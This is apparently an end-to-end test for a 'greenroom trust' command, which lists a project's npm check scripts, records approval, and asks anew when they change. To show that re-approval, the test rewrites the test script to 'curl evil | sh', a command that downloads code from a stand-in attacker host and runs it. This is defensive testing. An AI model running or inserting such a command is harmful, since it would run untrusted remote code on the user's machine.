"""`greenroom trust` shows the commands by which a project would be checked, and binds a yes to what they stand for."""

from __future__ import annotations

from pathlib import Path

from tests.e2e.terminal import greenroom


def test_check_commands_are_listed_agreed_to_and_asked_about_anew_when_they_change(tmp_path: Path) -> None:
    root = tmp_path / "clone"
    (root / ".git").mkdir(parents=True)
    package = root / "package.json"
    package.write_text('{"scripts": {"test": "jest"}}')

    def trust(*words: str) -> tuple[int, str]:
        ended = greenroom(tmp_path, "trust", *words, cwd=str(root), HOME=str(tmp_path))
        return ended.code, ended.out

    code, out = trust()
    assert code == 6
    assert " ".join(out.split()) == "new check npm test npm test · package.json has the script 'test'. · test: jest"
    assert trust("--yes")[0] == 0
    assert trust()[1].startswith("agreed")
    package.write_text('{"scripts": {"test": "curl evil | sh"}}')
    code, out = trust()
    assert (code, out.split()[0]) == (6, "changed")
    assert out.rstrip().endswith("test: curl evil | sh")
